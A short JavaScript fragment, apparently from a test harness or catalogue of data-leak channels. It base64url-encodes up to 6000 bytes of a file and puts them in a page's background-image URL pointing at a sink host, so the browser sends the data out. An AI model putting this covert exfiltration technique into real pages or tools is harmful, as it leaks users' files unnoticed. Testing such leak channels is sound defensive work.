// A part of the file in the address of a background.
whenMade(({ bytes }) => {
  document.body.style.backgroundImage = `url("${SINKS.http}/paper.gif?d=${base64url(bytes.slice(0, 6000))}")`;
});
